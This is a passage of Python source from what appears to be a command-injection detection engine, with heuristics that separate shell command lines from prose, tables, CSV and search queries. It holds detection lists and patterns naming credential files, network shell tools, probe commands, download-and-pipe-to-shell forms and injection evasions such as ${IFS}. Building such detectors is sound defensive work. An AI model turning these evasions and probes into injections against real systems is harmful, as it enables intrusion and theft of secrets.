_GLOB_SYSTEM: Final = shellglob.Names([
    "/etc", "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/issue", "/etc/sudoers", "/etc/crontab",
    "/etc/hostname", "/etc/os-release", "/proc/self/environ", "/proc/self/cmdline", "/proc/version", "/proc/self",
    "/root/.ssh/id_rsa", "/root/.bash_history", "/bin/sh", "/bin/bash", "/dev/tcp", "/usr/bin/id", "/bin/cat"])
_GLOB_ORDINARY: Final = shellglob.Names([
    "/api/v1", "/api/v2/users", "/var/www/html", "/home/user/docs", "/usr/share/doc", "/static/js/app.js",
    "/images/logo.png", "/en/us", "/a/b", "/tmp/x", "/docs/index.html", "/search/all", "/user/profile", "/src/main",
    "/app/data", "/opt/app", "/bin", "/usr/bin", "/var/log", "/etc/nginx/nginx.conf", "/e", "/x/y/z"])


def _signed_headers(names: list[str]) -> bool:
    """Header names as a signature lists them: sorted, `host` among them, every other one hyphenated (`;id` is none)."""
    return "host" in names and all(h == "host" or "-" in h for h in names) and names == sorted(names)


def _glob_system_path(value: str) -> bool:
    if "?" not in value and "*" not in value and "[" not in value:
        return False  # (most values with a slash hold no glob: no need to read their paths)
    globs = 0
    for m in _GLOB_WORD.finditer(value):
        word = m.group().lower().rstrip(".,:")
        if not ("?" in word or "*" in word or "[" in word and "]" in word):
            continue  # plain paths do not count towards the bound: they cost nothing, and would hide a glob after them
        if _GLOB_SYSTEM.first_match(word) is not None and _GLOB_ORDINARY.first_match(word) is None:
            return True
        globs += 1
        if globs >= 8:
            break  # (each glob is walked over the names: a value of thousands is bounded)
    return False


@functools.lru_cache(maxsize=512)
def param_role(name: str) -> str:
    """What a parameter is for, from its name: "command" (`cmd`, `exec`, `shell_cmd`), "search" (`q`, `search`,
    `keywords`), or ""."""
    n = name.lower()
    if len(n) > 40:
        return ""
    if _COMMAND_PARAM.match(n):
        return "command"
    if _SEARCH_PARAM.match(n):
        return "search"
    return ""


def command_value(value: str) -> bool:
    """A one-word value that is a probe command (the engine skips one-word values unless a command parameter holds one)."""
    return len(value) <= 12 and value.lower() in _PARAM_PROBES


_URL_HEAD: Final = re.compile(r"^[ \t]*[a-z][a-z0-9+.\-]{1,15}://[^\s/?#;]+", re.I)
_PART_KEY: Final = re.compile(r"^[\w.\-\[\]]{1,40}$")


def _url_parts(value: str) -> list[tuple[str, str]]:
    """(name, value) of a URL's matrix parameters (`/a;x=1`), query parameters and fragment (whole, and its `k=v` pairs),
    percent-decoded; at most 16."""
    m = _URL_HEAD.match(value)
    if m is None:
        return []
    rest = value[m.end():]
    rest, _, frag = rest.partition("#")
    path, _, query = rest.partition("?")
    out: list[tuple[str, str]] = []
    for seg in path.split(";")[1:]:
        k, eq, v = seg.partition("=")
        out.append((k, unquote_text(v)) if eq and _PART_KEY.match(k) else ("", unquote_text(seg)))
    for seg in query.split("&"):
        k, eq, v = seg.partition("=")
        if eq and v:
            out.append((k, unquote_text(v, True)))
    if frag:
        out.append(("", unquote_text(frag, True)))
        if "=" in frag:
            for seg in frag.split("&"):
                k, eq, v = seg.partition("=")
                if eq and v and _PART_KEY.match(k):
                    out.append((k, unquote_text(v, True)))
    return [(k, v) for k, v in out[:16] if v.strip()]


# Sentence punctuation of any script around a template's placeholders (`${user} が ${item} を購入しました`).
_TEXT_PUNCT: Final = "\"'.,:!?()«»„“”‘’。、！？：「」・…–—"
# Variables that hold a program: first in a value, their expansion is the command that runs.
_RUNNER_VARS: Final = {"shell", "bash", "bash_env", "sh", "editor", "visual", "pager", "browser", "cmd", "command", "exec",
                       "prog", "program", "0"}


def _placeholder_sentence(low: str) -> bool:
    """`${user} hat ${item} gekauft`: placeholders among two or more words of text in any script, no other shell syntax
    and no program's name first (`echo ${HOME}`) — a translated or templated message, not a command line."""
    rest = _PLAIN_EXPANSION.sub(" ", low).split()
    first = _PLAIN_EXPANSION.match(low.lstrip())
    if first and (first.group(1) in _RUNNER_VARS or _cmd_name(first.group(1))):
        return False  # `${SHELL} x y`, `${EDITOR} …`: a variable in command position runs the program it holds
    if len(rest) < 2 or any(c in low for c in "`;|&<>\\/=") or "$(" in low or _PLAIN_EXPANSION.sub("", low).count("$"):
        return False
    toks = [t.strip(_TEXT_PUNCT) for t in rest]
    return all(t.isalpha() or t.isdigit() or not t for t in toks) and _cmd_name(toks[0]) is None


# A CSV export separated by `;` or `|` (European spreadsheets, bank statements): a header of three or more field names
# and rows with as many cells. A shell would run each cell as a command, so the cells must be data: numbers, dates,
# amounts, words and names. A cell that names a program is a column name only when capitalised (POSIX names are
# case-sensitive: `Date`, `Id` run nothing) and no probe a case-blind Windows shell would run (`Dir`, `Whoami`); a
# lower-case one only when it is an English word that is no probe (`type`, `file`; `id;name;email` stays flagged).
_CSV_NUMBER: Final = re.compile(r"^[+\-]?[$€£]?\d[\d.,:/\- ]*(?:\s?(?:%|[a-z]{1,3}))?$", re.I)
_CSV_UNSAFE: Final = re.compile(r"[`<>&\\]|\$[({\w]")
_CSV_ARG: Final = re.compile(r"^[\-/~.]")
_CSV_HEADER: Final = re.compile(r"^[^\W\d][\w .()%#/\-]{0,40}$")


def _csv_cell(cell: str, delim: str) -> bool:
    """A cell that is data to a reader and runs nothing to a shell (see above)."""
    cell = cell.strip()
    if not cell or _CSV_NUMBER.match(cell):
        return True
    if _CSV_UNSAFE.search(cell) or (";" if delim == "|" else "|") in cell:
        return False
    toks = cell.split()
    c = _cmd_name(toks[0].lower().strip("\"'()"))
    if c is not None:
        if len(toks) > 1:
            return False  # `sleep 5`, `Ping -n 9 x`: a program's name with arguments is a command line, not a name
        if toks[0][:1].isupper():
            if c in STRONG and c not in PROSE or c in WIN_STRONG or c in _PROBES and (c in WIN or c in _SHELLS):
                return False
        elif c not in PROSE or c in _PROBES:
            return False
    return not any(_CSV_ARG.match(t) and not _CSV_NUMBER.match(t) for t in toks[1:])


def _delimited_table(value: str) -> bool:
    """A `;`- or `|`-separated CSV (first 200 lines): a header of field names, rows as wide, every cell data."""
    lines = [ln for ln in value.strip("\r\n").splitlines()[:200] if ln.strip()]
    if len(lines) < 2:
        return False
    for delim in (";", "|"):
        if lines[0].count(delim) < 2:
            continue
        try:
            rows = list(csv.reader(lines, delimiter=delim))
        except csv.Error:
            return False
        width = len(rows[0])
        if any(len(r) != width for r in rows) or not all(_CSV_HEADER.match(h.strip()) for h in rows[0]):
            return False
        return all(_csv_cell(c, delim) for r in rows for c in r)
    return False


# Quoting the shell removes: a backslash before an ordinary character or a newline, and empty quote pairs.
_DEQUOTE: Final = re.compile(r"\\\r?\n|\\(?=[\w./\-])|''|\"\"")
# (a separator start is left to a later separator of its run, as in _PS_SCRIPTBLOCK: the same word follows)
_QUOTE_SEPS: Final = re.compile(r"(?:[;|&\n`]|\$\()(?!(?:[^\S\n]|\()*+[;|&\n])[;|&\s(]*([a-z/\\$][\w./\\$-]*)", re.I)


def _quoted_separator(value: str) -> bool:
    """A separator and a command between the first two single quotes: only then does reading the value as the
    continuation of a quoted argument put a command outside quotes that the plain reading keeps inside."""
    i = value.find("'")
    j = value.find("'", i + 1)
    return j > 0 and any(_cmd_name(m.group(1).lower()) is not None for m in _QUOTE_SEPS.finditer(value, i, j))


# Named character references of running text (HTML5 list); numeric ones are evasions the html decoder undoes upstream.
_TEXT_ENTITY: Final = re.compile(r"&(?:copy|reg|trade|nbsp|amp|lt|gt|quot|apos|hellip|mdash|ndash|euro|pound|yen|cent|sect|"
                                 r"para|deg|middot|bull|laquo|raquo|lsquo|rsquo|ldquo|rdquo|times|divide|plusmn|frac12|"
                                 r"frac14|frac34|shy|iexcl|iquest|ordm|ordf|micro|sup2|sup3|[a-z]uml|[a-z]acute|[a-z]grave|"
                                 r"[a-z]circ|[a-z]tilde|[a-z]cedil|szlig|eth|thorn|aelig|oslash|aring);")
_HTML_TAG: Final = re.compile(r"</?[a-z][a-z0-9]{0,10}(?:\s[^<>]{0,300})?>")
_FENCE: Final = re.compile(r"```[a-z0-9_+\-]{0,20}")
_CARET: Final = re.compile(r"(?<=[\w\"])\^(?=[\w\"])")
_PROC_SUBST: Final = re.compile(r"[<>]\(\s*([a-z/.~$\\'\"][^\s)]*)")


def _proc_subst(low: str) -> bool:
    """`<(ls /)`, `>(sh)`: the word after `<(` is a program (or a path/variable naming one); `<T>(x: T) => x` in
    TypeScript and `<(^_^)>` put no command there."""
    for m in _PROC_SUBST.finditer(low):
        w = m.group(1).strip("'\"\\")
        if w[:1] in ("/", "$", ".", "~") or _cmd_name(w) is not None:
            return True
    return False
# A whole value that is one word and the newline ending a command line (a form field keeps the user's newline).
_NL_TERMINATED: Final = re.compile(r"^\s*[a-z0-9_./\-]+[ \t]*\r?\n\s*$")  # lower case: `Shutdown` is no command to a shell
# Commands that change the machine's state; as English they are nouns/verbs nobody submits alone with a newline.
_SYSTEM_STATE: Final = {"shutdown", "reboot", "halt", "poweroff"}

_SQLITE_DOT_CMD: Final = re.compile(r"\.\\?'?(?:shell|system|databases|tables|dump|import|output|once|load|sh|schema|read)\b")


def _sqlite_dot(low: str) -> bool:
    r"""A sqlite3 dot command at the start, after `;` (and a number), a newline or a written `\n`, blanks allowed:
    what `(?:^|[;\n]|\\n|;\s*\d*\s*)\s*\.cmd` found. Read back from each `.cmd`, since from each newline the
    pattern rescanned the blanks after it (quadratic in a run of newlines, cubic after `;`: its blank runs traded
    characters)."""
    for m in _SQLITE_DOT_CMD.finditer(low):
        j = m.start()
        while j > 0 and low[j - 1].isspace():
            if low[j - 1] == "\n":
                return True
            j -= 1
        if j == 0 or low[j - 1] == ";" or low[j - 2:j] == "\\n":
            return True
        k = j
        while k > 0 and low[k - 1].isdigit():
            k -= 1
        if k < j:
            while k > 0 and low[k - 1].isspace():
                k -= 1
            if k > 0 and low[k - 1] == ";":
                return True
    return False


_ALIAS: Final = re.compile(r"(?:^|[;&|\s`])alias\s+(?:[+-]\w*[+-]?\s+)*['\"]?[\w.\-]+['\"]?=")
# `${var:0:1}`, `${var#x}`, `${var/a/b}` carve strings out of variables (an evasion); a plain `${name}` is how
# templates everywhere write placeholders and does nothing a shell would notice.
_EXPANSION_BRACE: Final = re.compile(r"\$\{[a-z_][a-z0-9_]*(?::(?![-=?+])|[#%/^,])[^}]*\}|\$\{ifs\}")  # ${IFS}: a blank in disguise
_EXPANSION_PROC: Final = re.compile(r"[<>]\(\s*[a-z/$.~\\'\"][^)]*\)")  # `<(cmd)`: process substitution


def _expansion(low: str) -> bool:
    """A `${var:…}` / `${var#…}` carve, `${IFS}` or `<(…)` in `low`. Every match ends at a `}` or `)`, and from any
    start before the last one the open-ended `[^}]*` / `[^)]*` reaches it: searching only up to that character gives
    the same answer, without scanning to the end of the value from each start (`${jndi:` × 2,000 cost 60 ms)."""
    b = low.rfind("}")
    if b >= 0 and _EXPANSION_BRACE.search(low, 0, b + 1) is not None:
        return True
    p = low.rfind(")")
    return p >= 0 and _EXPANSION_PROC.search(low, 0, p + 1) is not None


# One backtick span between words, as Markdown writes inline code inside a sentence.
_CODE_SPAN: Final = re.compile(r"(?:^|(?<=[\s(]))`[^`\n]{1,200}`(?=$|[\s.,;:!?)])")
_CODE_SPAN_BODY: Final = re.compile(r"`[^`]*`")
# What an inline code span keeps even inside a sentence: a substitution of its own (`it is `$(id)` here`), a download
# handed to a shell or an interpreter, a reverse shell.
_SPAN_DANGER: Final = re.compile(r"\$\(|\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^`|]*\|\s*(?:sudo\s+)?"
                                 r"(?:(?:/usr)?/bin/)?(?:(?:ba|z|k|da|c|tc|a)?sh|python[\d.]*|perl|ruby|php|node|iex|invoke-expression)\b")
_SPAN_KEEP: Final = {"rce:reverse_shell", "rce:shellshock"}
_MD_LINK: Final = re.compile(r"!?\[([^\[\]`\n]{0,200})\]\([^()\s`]{1,2048}\)")  # an inline link or image, destination without spaces
# Block markers of a Markdown document at the start of a line: a heading, a numbered or bulleted list item, a quote.
_MD_BLOCK: Final = re.compile(r"^[ \t]*(?:#{1,6}|\d{1,3}[.)]|[-*+>])[ \t]+", re.M)
# A Markdown (GFM) table's delimiter row, fenced by pipes on both ends: `|---|:--:|`.
_TABLE_DELIM: Final = re.compile(r"^[ \t]*\|(?:[ \t]*:?-+:?[ \t]*\|)+[ \t]*$", re.M)
_CELL_PIPE: Final = re.compile(r"(?<!\\)\|")
_NUMBERISH: Final = re.compile(r"^[$€£]?\d[\d.,:%]*$")
# Put before each cell of a table `_md_tables` rewrote: a word no program is named, so no cell is in command position.
_TABLE_MARK: Final = "\x00 "


def _cells(line: str) -> list[str]:
    return _CELL_PIPE.split(line.strip()[1:-1] if line.rstrip().endswith("|") else line.strip()[1:])


def _md_tables(value: str) -> str:
    """Markdown tables as text: a header row fenced by pipes and the `|---|` delimiter row with as many cells make a
    table, and the `|…` rows below belong to it. To a shell the delimiter row is a syntax error right after a line
    ending in `|`, so nothing from the header on runs; to a reader the pipes are cell borders. Each cell becomes a
    line of its own behind a neutral mark (its words stay out of command position; a `;` or `$(` inside still
    counts), and the lines around the table stay as they are (a command on the next line still reads as one)."""
    lines = value.split("\n")
    out: list[str] = []
    i, n, changed = 0, len(lines), False
    while i < n:
        head = lines[i].strip()
        if i + 1 < n and len(head) > 2 and head[0] == "|" and head[-1] == "|" and _TABLE_DELIM.match(lines[i + 1]) and \
                len(_cells(head)) == len(_cells(lines[i + 1])):
            cells = _cells(head)
            j = i + 2
            while j < n and lines[j].lstrip().startswith("|"):
                cells += _cells(lines[j])
                j += 1
            out += [_TABLE_MARK + c.strip() for c in cells if c.strip()]
            i, changed = j, True
            continue
        out.append(lines[i])
        i += 1
    return "\n".join(out) if changed else value


def _markdown_code(low: str, table: bool = False) -> bool:
    """Inline code spans in a sentence (`run `ls -la`; then `make``) or in table cells: every backtick pair stands
    between words, as Markdown writes it, and the text around them reads as English (a cell as a table's words). A
    span alone on its line is no inline code. Headings, list and quote markers are a document's structure, not words."""
    if "\n" in low and ("```" in low or "\n    " in low or "\n\t" in low):
        low = _CODE_BLOCK.sub("\n", low)  # fenced and indented blocks are code, not the sentence around the spans
    n = low.count("`")
    if n % 2 or n > 16 or len(_CODE_SPAN.findall(low)) * 2 != n:
        return False
    text = _MD_BLOCK.sub("", low.replace(_TABLE_MARK, "")) if table or "\n" in low else low
    if "](" in text:
        # `[![Build](badge.svg)](ci-url)`, `[docs](url)`: a link reads as its text; the address is no word of the sentence
        text = _MD_LINK.sub(r"\1", _MD_LINK.sub(r"\1", text))
    if not table and "\n" in text and any("`" in ln and not _CODE_SPAN_BODY.sub("", ln).strip(" \t.,;:!?()") for ln in text.split("\n")):
        return False
    outside = [w.strip(".,;:!?()*_") for w in _CODE_SPAN_BODY.sub(" ", text).split()]
    outside = [w for w in outside if w]
    prose = [w for w in outside if _PROSE_WORD.match(w) or _CONTRACTION.match(w)]  # a URL or a number may stand too
    if table:  # cells hold names and numbers, not sentences: half of the words that are no numbers read as words
        words_ = [w for w in outside if not _NUMBERISH.match(w)]
        return len(prose) >= 2 and len(prose) * 2 >= len(words_)
    counted = [w for w in outside if not _NUMBERISH.match(w)]  # `fails on Node 20:`: a version is neither word nor code
    return len(prose) >= 3 and len(prose) * 4 >= len(counted) * 3 and any(w in _STOP or "'" in w for w in prose)


# `^[`1`:^[`type`:` — JSON whose quotes are backticks (Magento widget conditions): keys, not substitutions
_BACKTICK_KEYS: Final = re.compile(r"[\[{,^]\s*`[\w-]+`\s*:")
_CODE_PUNCT: Final = re.compile(r"[;\[\]{}'\"$|&<>`=\\]")
_EDITORS: Final = {"vi", "vim", "ex", "view", "rvim", "rview", "nvim", "vimdiff", "gvim"}
_EDITOR_ESCAPE: Final = re.compile(r"^(?:[+:]|-c:?)?!([a-z/][\w/.\-]*)")
_OPTION: Final = re.compile(r"^(?:-{1,2}[a-z][\w\-]*|/[a-z])$")
_PROSE_WORD: Final = re.compile(r"^[a-z]+[!?.,:]?$")


# Function words of English: sub-commands (`cscli alerts list`, `ansible-vault decrypt secret`) never are.
_STOP: Final = set("""is are was were be been am a an the my your our their his her its this that these those or and but
nor vs versus to of for in on at by with from as than then so too very really not no yes if it i you we they he she
me us them can could should would will shall may might must do does did has have had just also only still""".split())


# More function words of running text (quantifiers, conjunctions, question words): a sentence has several of them.
_FUNCTION_WORDS: Final = _STOP | set("""every each even though although because while when whenever after before since until
unless whether nothing anything something everything nobody anybody someone anyone about into onto over under again
once why how what where which there here all any some both either neither same own""".split())
# A word or number of running text, maybe quoted or bracketed, maybe with a comma or a full stop after it.
_SENTENCE_WORD: Final = re.compile(r"^[\"'(]?(?:[a-z]+(?:['’-][a-z]+)*|\d+(?:[.,:]\d+)*%?)[\"')]?[.,:!?]?[\"')]?$", re.I)


def _sentence(value: str) -> bool:
    """A written sentence that begins with a tool's name (`Puppet agent run reports 12 changes every time even though
    nothing changed.`): one line, a capital letter first and sentence punctuation last, six or more words and numbers
    with no shell syntax between them, two or more of them function words."""
    v = value.strip()
    if len(v) < 24 or not v[0].isupper() or v[-1] not in ".!?" or "\n" in v:
        return False
    toks = v.split()
    return len(toks) >= 6 and all(_SENTENCE_WORD.match(t) for t in toks) and \
        sum(t.strip("\"'().,:!?").lower() in _FUNCTION_WORDS for t in toks) >= 2


def _name_path_pair(name: str, ws: list[tuple[str, str]]) -> bool:
    """`python3|/user/anna/lab/tree/x`: a setting that pairs a name with a path outside the directories programs run
    from (a notebook's kernel and URL); the tool reads an empty standard input and the path names no program."""
    return len(ws) == 2 and ws[1][0] == "|" and ws[1][1][:1] == "/" and not _PIPE_PATH.match(ws[1][1]) and \
        _cmd_name(ws[1][1]) is None and name not in _PROBES and name not in WIN_STRONG


def _prose_args(args: list[str]) -> bool:
    """Arguments that read as an English phrase (`is great! really`): plain words (no path, option, number or host),
    at least one of them a function word or carrying sentence punctuation."""
    args = [a for a in args if a not in ("-", "--")]  # a dash used as punctuation (`python -- the language`)
    return bool(args) and all(_PROSE_WORD.match(a) or a.isdigit() for a in args) and \
        any(a.rstrip("!?.,:") in _STOP or a[-1] in "!?,:" for a in args)


def _prose_list(rest: list[tuple[str, str]]) -> bool:
    """`yes; no; maybe`, `yes | no`: after an English word that is also a command come only plain words, none of them
    a command (a pipe into a word that runs nothing is a choice list)."""
    return bool(rest) and all(sep in ("", ";", ",", "|") and _PROSE_WORD.match(w) and _cmd_name(w) is None for sep, w in rest)


# Nouns of search queries and titles about a tool (`perl regex tutorial`, `bash script examples`): what people look
# up about a program, never a sub-command or operand it takes.
_TOPIC: Final = set("""tutorial tutorials example examples guide guides course courses book books docs documentation manual
cheatsheet cheat sheet basics beginner beginners tips tricks interview questions question syntax reference meaning
certification training jobs job salary developer developers programming language vs versus alternative alternatives
error errors comprehension regex regular expression expressions script scripting scripts tutorialspoint course
video videos pdf review reviews online free download explained introduction intro overview cookbook best practices
projects project problems exercises challenge challenges framework frameworks library libraries logo meme""".split())
# What goes wrong with a tool, as help-desk searches and tickets put it (`mysqldump backup failed access denied`,
# `rsync connection refused`): states and outcomes, never an operand a program takes.
_SYMPTOM: Final = set("""failed fails fail failing failure failures denied refused hangs hanging hung stuck slow slower
crash crashes crashed crashing broken missing timeout timeouts freezes freezing frozen unable unreachable unauthorized
forbidden expired corrupt corrupted invalid warning warnings issue issues problem problems bug bugs troubleshoot
troubleshooting fix fixed workaround""".split())
# Network clients need somewhere to connect: with only plain words after them (`nc state basketball`) they are words.
_NET_TOOLS: Final = {"nc", "ncat", "netcat", "telnet", "ssh", "ftp", "tftp", "sftp", "nmap", "socat", "ping", "dig", "nslookup"}
# Programs that are also the names of languages, products and formats, so shoppers and readers type them in queries.
_NOUN_TOOLS: Final = set("""python python2 python3 perl ruby php php5 php7 lua node nodejs java javac gcc g++ cc clang docker
podman kubectl helm terraform ansible mysql psql sqlite3 mongo git ssh openssl gzip gunzip zip unzip bzip2 xz tar 7z rar
unrar vim nano emacs tmux npm yarn pip pip3 gem cargo composer curl wget nmap telnet ftp rsync gpg bash zsh powershell
pwsh deno rustc dotnet mvn gradle kotlin ngrok jq htop hashcat sqlmap tcpdump tshark iptables ufw certbot openvpn lynx
w3m gimp octave puppet chef rake irb dig whois brotli zstd lz4 busybox truncate aws gcloud
svn wireshark xterm rustup pacman raku wsl winget""".split())
# Shell builtins and launchers that run the program named in their arguments (`repeat 3 id`, `command -v sh`,
# `coproc nc …`, `setsid sh -c …`; unix-shell-builtins.data of CRS 4 lists the builtins).
_RUNNERS: Final = {"repeat", "command", "builtin", "coproc", "setsid", "exec", "nohup", "stdbuf", "unshare", "chroot"}


def _runs_program(args: list[str]) -> bool:
    """The first argument that is no count or option names a program."""
    for a in args[:4]:
        if a.isdigit() or _OPTION.match(a):
            continue
        return _cmd_name(a) is not None
    return False


_LIST_RULES: Final = {"rce:chained_command", "rce:command_terminated", "rce:leading_separator"}
# What a shell prints about itself: the probes of blind injection, never excused as an item of a list.
_PROBES: Final = {"id", "who", "w", "whoami", "env", "ls", "ll", "ps", "pwd", "dir", "ver", "vol", "uname", "hostname",
                  "ifconfig", "ipconfig", "printenv", "groups", "last", "uptime", "date", "sh", "bash", "cmd", "powershell"}
# SigV4's SignedHeaders: lower-case header names joined by `;`, one of them a signature scheme's own
_SIGNED_HEADERS: Final = re.compile(r"^(?=[a-z0-9;\-]*(?:x-amz-|x-goog-|content-))[a-z0-9\-]+(?:;[a-z0-9\-]+)+$")
# A name in a list: a word, maybe dotted (`node.js`, `.net`) or slash-joined without dots (`c/c++`, `html/css`, `ci/cd`;
# `host.net/x.sh` is an address, not a name).
_LIST_ITEM: Final = re.compile(r"^(?:\.?[a-z][a-z0-9_.+#\-]*|[a-z][a-z0-9+#\-]*(?:/[a-z0-9+#\-]+)+)$")
# Programs that run what reaches them on standard input (or the program named after them): bare in a pipeline they are
# the end of `…|sh`, never a search term.
_RUNS_STDIN: Final = _SHELLS | {"xargs", "crontab", "nohup", "env", "exec", "eval", "source", "time", "doas", "tclsh", "jjs",
                                "irb", "jshell", "ghci", "pry", "pdb", "rlwrap", "socat", "nc", "ncat", "netcat", "telnet"}


# Shells that are also the names of scripting languages on a CV (`Bash; PowerShell`): bare after `;` they start a shell
# on an empty standard input; after `|` they run what the pipe hands them.
_LANGUAGE_SHELLS: Final = {"bash", "zsh", "ksh", "fish", "powershell", "pwsh"}


def _word_list(ws: list[tuple[str, str]]) -> bool:
    """Three or more items of plain words separated by `;` or `|`, at least one of them no program and every program
    among them a product or an English word (`java; python; go`, `FL; GA; SC`) rather than a probe. A tool's bare name
    is an item too when another item is a phrase of two or more words naming no program (`winget|mysqldump|vpn
    disconnects`: recent searches), unless it is a probe or runs what the pipe hands it (`|sh`, `|xargs`)."""
    items: list[list[str]] = []
    seps: list[str] = []
    heads: list[int] = []  # words of each item before a note in parentheses (`SQL (PostgreSQL, T-SQL)`)
    noted = False
    for sep, w in ws:
        if sep in (";", "|") or sep == "^" and not items:
            items.append([w])
            seps.append(sep)
            heads.append(1)
        elif sep in ("", "^", "(") and items and len(items[-1]) < 8:
            if sep == "(" and _cmd_name(w) is None:
                noted = True
                heads[-1] = -len(items[-1])  # the note belongs to its item; the words after it are the note's
            elif heads[-1] > 0:
                heads[-1] += 1
            items[-1].append(w)
        else:
            return False
        if not _LIST_ITEM.match(w):
            return False
    if len(items) < 3:
        return False
    # a phrase of words naming no program, or a note in parentheses (`AWS (EC2, S3)`: a syntax error to sh)
    phrase = noted or any(len(item) >= 2 and all(_cmd_name(w) is None for w in item) for item in items)
    plain = 0
    for sep, item, head in zip(seps, items, heads):
        head = abs(head)
        c = _cmd_name(item[0])
        if c is None:
            plain += 1
        elif phrase and head == 1 and sep != "|" and c in _LANGUAGE_SHELLS:
            continue  # `Bash; PowerShell; AWS (EC2, S3)`: a shell named as a skill, handed nothing to run
        elif head > 3 or c in _PROBES or c in WIN_STRONG or \
                c in STRONG and c not in PROSE and c not in _NOUN_TOOLS and not (
                    phrase and head == 1 and c not in _RUNS_STDIN) or \
                any(_cmd_name(w) is not None and _cmd_name(w) not in PROSE for w in item[1:]):
            return False
    return plain >= 1
# An API name of the language a query is about: snake_case or dunder (`file_get_contents`, `__init__`, `child_process`)
_IDENT: Final = re.compile(r"^_*[a-z][a-z0-9]*(?:_+[a-z0-9]+)*_*$")
_VERSION_ARG: Final = re.compile(r"^\d{1,6}(?:\.\d{1,4}){0,3}$")
_DOTFILE: Final = re.compile(r"^\.[a-z][a-z0-9_\-]{0,30}(?:\.[a-z0-9_\-]{1,12}){0,3}$")  # `.env`, `.npmrc`, `.terraform.lock.hcl`
_TIMING: Final = {"sleep", "ping", "timeout", "waitfor"}
_VAR_BUILTINS: Final = {"unset", "export", "set", "declare", "typeset", "readonly", "local", "env"}
_LAUNCHERS: Final = {"start", "call", "exec", "nohup", "sudo", "doas", "runas", "busybox", "env", "time"}
_WIN_SWITCH_ARG: Final = re.compile(r"^/[a-z?][a-z0-9?\-]*(?::\S*)?$")  # `sfc /scannow`, `gpupdate /force`
_VAR_BIN: Final = re.compile(r"^\s*\$\{?[a-z_][a-z0-9_]*\}?(?:/\.\.)*/(?:usr/(?:local/)?)?s?bin/([a-z][\w.\-]*)")
_DRIVE_ARG: Final = re.compile(r"^[a-z]:[\w$][\w.\-$]+$")  # `c:\users` after the POSIX tokenizer consumed the backslash


def _search_query(name: str, w: str, args: list[str], ws: list[tuple[str, str]], idx: int, value: str) -> bool:
    """A tool's name followed only by plain words (and version numbers) that read as a query about it: a topic noun
    (`perl regex tutorial`), a product named like the tool (`ruby ring size 7`, `python 3.12 download`), or a network
    client given no address (`nc state basketball`). Spelled-out names (`ansible-vault`), a command line ended by its
    newline, and arguments that name a real command keep their weight."""
    if w != name or len(ws) != idx + 1 + len(args) or not args or value.rstrip(" \t").endswith("\n"):
        return False
    args = [a for a in args if a not in ("-", "--", ".", "..", "./", "../", "/")]  # bare punctuation, no operand
    # a tool's config file named among English words (`docker compose environment variables .env file`, `git
    # .gitignore not working`); alone after the name (`php .htaccess`, `bash .x`) it is the operand a program runs
    dotfile = name in _NOUN_TOOLS and name not in _SHELLS and any(_PROSE_WORD.match(a) for a in args)
    if not all(_PROSE_WORD.match(a) or _VERSION_ARG.match(a) or name in _NOUN_TOOLS and _IDENT.match(a) or
               dotfile and _DOTFILE.match(a) for a in args):
        return False
    if any((c := _cmd_name(a)) is not None and (c in STRONG and c not in PROSE or c in WIN_STRONG) for a in args):
        return False  # `sudo whoami`, `python manage` are fine, `nohup bash` is not
    return any(a.rstrip("!?.,:") in _TOPIC or a.rstrip("!?.,:") in _SYMPTOM for a in args) or name in _NOUN_TOOLS or \
        name in _NET_TOOLS and len(args) <= 4


# cmd.exe: a command word made only of `%name%` expansions, and the `set name=` assignments of the same value.
_CMD_VAR_WORD: Final = re.compile(r"^(?:%[a-z_][\w]{0,30}%)+$")
_CMD_VAR: Final = re.compile(r"%([a-z_][\w]{0,30})%")
# (a separator followed by blanks and a newline leaves the match to that newline: a run of newlines was read again
# from each of them)
_CMD_SET: Final = re.compile(r"(?:^|[&|\n(])(?![^\S\n]*+\n)\s*set\s+(?:/[ap]\s+)?\"?([a-z_][\w]{0,30})=")


def _cmd_var_run(w: str, s: str, sets: list[list[str]]) -> bool:
    """A program name cmd.exe builds from variables: two or more glued together (`%a%%b%`), or one the value itself
    `set` (`& set x=whoami& call %x%`). A single `%var%` the system defines is left to the Windows rules. `sets` keeps
    the names `s` sets, found on the first call: looked for per word, `%pipe%` lines × 4,600 cost 0.5 s."""
    if not _CMD_VAR_WORD.match(w):
        return False
    names = _CMD_VAR.findall(w)
    if len(names) >= 2:
        return True
    if not names:
        return False
    if not sets:
        sets.append(_CMD_SET.findall(s))
    return names[0] in sets[0]


def _prose_before(ws: list[tuple[str, str]], idx: int) -> bool:
    """The words before a separator are a phrase: at least two plain words and no shell syntax."""
    prev = [w for _, w in ws[max(0, idx - 4):idx]]
    return len(prev) >= 2 and all(_PROSE_WORD.match(w) or w.isdigit() for w in prev) and \
        any(not w.isdigit() for w in prev) and all(not s for s, _ in ws[1:idx])


def _drop_empty_vars(ws: list[tuple[str, str]], s: str) -> list[tuple[str, str]]:
    """A word that is only an unset `$var` before a command name expands to nothing: `|$u wget x` runs wget."""
    assigned = {m.group(1) for m in _ASSIGN.finditer(s)}
    out: list[tuple[str, str]] = []
    carry = ""
    for i, (sep, w) in enumerate(ws):
        m = _VAR_WORD.match(w)
        if m and m.group(1) not in assigned and m.group(1) != "ifs" and sep and i + 1 < len(ws) and not ws[i + 1][0] \
                and _cmd_name(ws[i + 1][1]) is not None:
            carry = carry or sep
            continue
        if carry and not sep:
            sep, carry = carry, ""
        out.append((sep, w))
    return out


def _command_string(name: str, args: list[str]) -> str | None:
    """The argument a command runs as shell code: `trap 'cmd' SIG`, `eval 'cmd'`, `sh -c 'cmd'`."""
    if name in ("trap", "eval") and args:
        return args[0]
    if name in _SHELLS and len(args) >= 2 and args[0] in ("-c", "-lc", "-ic"):
        return args[1]
    return None


# Any unambiguous command name, wherever it stands (the tokenizer decides whether it is in command position).
# One literal pattern per name: hyperscan compiles these in well under a second, a single alternation in seconds.
TRIGGERS = TRIGGERS_BASE + [r"\b" + re.escape(c) + r"\b" for c in sorted(STRONG - PROSE)] + [r"\bansible-\w", r"\bchef-\w", r"^\s*(?:https?|ftp)://\S+\s+-"]
# A probe alone (analysed only under a command parameter, see command_value) and a sqlite3 dot command alone (a name).
TRIGGERS += [r"^\s*(?:" + "|".join(sorted(_PARAM_PROBES)) + r")\s*$",
             r"^\s*\.(?:dump|shell|system|databases|tables|schema|import|output|once|load|read)\s*$"]


# --- Round 5: text whose shell-looking parts a shell would not run as written.
# A unified diff (`git diff`, `diff -u`): its header first and a hunk header inside. Its headers and `+`/`-` lines are
